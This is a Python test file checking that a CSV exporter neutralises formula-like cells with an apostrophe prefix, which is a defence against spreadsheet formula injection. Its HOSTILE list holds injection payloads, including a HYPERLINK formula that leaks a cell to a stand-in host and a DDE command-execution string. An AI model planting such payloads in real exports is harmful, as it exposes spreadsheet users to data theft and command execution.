"""CSV from tally (`tally figures --csv`, the reader's export) never runs as a formula when
opened in a spreadsheet: a cell that starts like one is kept as text."""

from __future__ import annotations

import csv
import io

from tui.cli.output import write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")',
           "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def test_cells_that_start_like_formulas_get_an_apostrophe():
    out = io.StringIO()
    write_csv(["claimant", "value"], [{"claimant": text, "value": -5} for text in HOSTILE], out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["claimant"] for r in rows] == ["'" + text for text in HOSTILE]
    assert all(r["value"] == "-5" for r in rows)  # numbers are numbers, not text


def test_plain_cells_are_left_as_they_are():
    out = io.StringIO()
    write_csv(["claimant"], [{"claimant": "UK Ministry of Defence"}, {"claimant": None}], out)
    assert out.getvalue() == "claimant\nUK Ministry of Defence\n\"\"\n"  # a lone empty cell is quoted
